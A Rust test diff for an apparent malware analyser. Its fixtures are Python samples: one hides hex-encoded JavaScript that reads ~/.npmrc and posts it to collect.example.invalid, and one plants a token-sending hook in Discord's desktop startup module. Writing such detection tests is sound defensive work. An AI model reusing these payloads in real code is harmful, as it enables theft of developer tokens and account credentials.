@@ -1772,3 +1772,36 @@ fn one_credential_read_for_use_is_not_gathered() {
         "{d:?}"
     );
 }
+
+#[test]
+fn javascript_written_decoded_or_into_a_startup_module_is_analysed_as_javascript() {
+    // Decoded from hex and saved as a `.js` file: what the script does is reported.
+    let decoded = "import os\nCODE = bytes.fromhex('636f6e73742066733d726571756972652827667327292c6f733d7265717569726528276f7327292c68747470733d726571756972652827687474707327293b636f6e737420743d66732e7265616446696c6553796e63286f732e686f6d6564697228292b272f2e6e706d7263272c277574663827293b68747470732e72657175657374287b686f73743a27636f6c6c6563742e6578616d706c652e696e76616c6964272c6d6574686f643a27504f5354277d292e656e642874293b').decode()\nwith open(os.path.join('/tmp/cache', 'loader.js'), 'w') as fh:\n    fh.write(CODE)\n";
+    let d = details(decoded);
+    assert!(
+        d.iter()
+            .any(|x| x.contains("in the JavaScript written to") && x.contains(".npmrc")),
+        "{d:?}"
+    );
+    // Written as it is into the startup module of a desktop client.
+    let planted = "import os\nhook = \"const https = require('https'); module.exports = (t) => https.request({host: 'sink.example.invalid', method: 'POST'}).end(String(t));\"\nroot = os.getenv('APPDATA')\nwith open(root + '/discord/0.0.309/modules/discord_desktop_core/index.js', 'w') as f:\n    f.write(hook)\n";
+    let d = details(planted);
+    assert!(
+        d.iter()
+            .any(|x| x.starts_with("Persistence") && x.contains("Discord")),
+        "{d:?}"
+    );
+    assert!(
+        d.iter()
+            .any(|x| x.contains("in the JavaScript written to")
+                && x.contains("sink.example.invalid")),
+        "{d:?}"
+    );
+    // A build writing its own plain bundle: not analysed again.
+    let build = "bundle = \"const https = require('https'); https.get('https://cdn.example.invalid/app.css');\"\nwith open('dist/app.js', 'w') as f:\n    f.write(bundle)\n";
+    let d = details(build);
+    assert!(
+        !d.iter().any(|x| x.contains("in the JavaScript written to")),
+        "{d:?}"
+    );
+}
